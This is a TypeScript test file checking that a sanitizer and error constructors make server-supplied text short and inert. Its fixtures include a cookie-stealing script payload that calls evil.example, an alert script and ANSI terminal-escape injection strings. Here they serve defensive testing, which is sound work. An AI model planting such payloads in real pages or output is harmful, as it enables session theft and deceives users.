import { describe, expect, test } from 'vitest'
import { SERVER_TEXT_MAX, serverText } from '../../../main/http/server-text.ts'
import { errorFromResponse } from '../../../main/http/errors.ts'
import { failureForStatus } from '../../../main/providers/fastpix/gcs-session.ts'

const HUGE = 'Tell me more. '.repeat(7_200).slice(0, 100_000)
const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script><b>Bad</b> request'
const ANSI = '\u001b[2J\u001b[31mred alert\u001b[0m\u001b]0;owned title\u0007 and\r\nmore\u0000\u009b1m'

/** What must never reach a message built from server text. */
function expectInert(text: string): void {
  expect(text.length).toBeLessThanOrEqual(SERVER_TEXT_MAX + 200)
  expect(text).not.toMatch(/[<>]/)
  // eslint-disable-next-line no-control-regex
  expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
  expect(text).not.toMatch(/script|cookie/i)
}

describe('serverText', () => {
  test('a 100,000-character description comes out short, ending in an ellipsis', () => {
    const out = serverText(HUGE)
    expect(out.length).toBeLessThanOrEqual(SERVER_TEXT_MAX)
    expect(out.length).toBeGreaterThan(SERVER_TEXT_MAX - 20)
    expect(out.endsWith('…')).toBe(true)
  })
  test('markup is removed, script and style contents with it', () => {
    expect(serverText(SCRIPT)).toBe('Bad request')
    expect(serverText('<style>body{}</style>a <!-- c --> b <unclosed')).toBe('a b')
  })
  test('ANSI escapes and control characters are removed; the text is one line', () => {
    expect(serverText(ANSI)).toBe('red alert and more')
  })
  test('credentials in the text are redacted', () => {
    expect(serverText('see https://storage.example/u?upload_id=SECRETSECRET')).not.toContain('SECRETSECRET')
  })
})

describe('server text reaching an AppError', () => {
  test('the API: message and detail of a 400, 409 and 422 are bounded and inert', () => {
    for (const status of [400, 409, 500]) {
      const error = errorFromResponse(status, {
        success: false,
        error: { message: SCRIPT, description: HUGE },
      })
      expectInert(error.message)
      expectInert(error.detail ?? '')
    }
    const fields = Array.from({ length: 5_000 }, (_, i) => ({ field: `f${i}${ANSI}`, message: SCRIPT }))
    const error = errorFromResponse(422, { success: false, error: { message: 'x', fields } })
    expectInert(error.message)
    expect(error.fields!.length).toBeLessThanOrEqual(10)
    for (const f of error.fields!) expectInert(f.field + f.message)
  })
  test('the storage session: an HTML error page and a huge body become a short plain detail', () => {
    const page = `<html><head><script>alert(1)</script></head><body>${ANSI}${HUGE}</body></html>`
    for (const status of [400, 503]) {
      const error = failureForStatus({ status, headers: {}, body: page }, Date.now())
      expectInert(error.message)
      expectInert(error.detail ?? '')
    }
  })
})
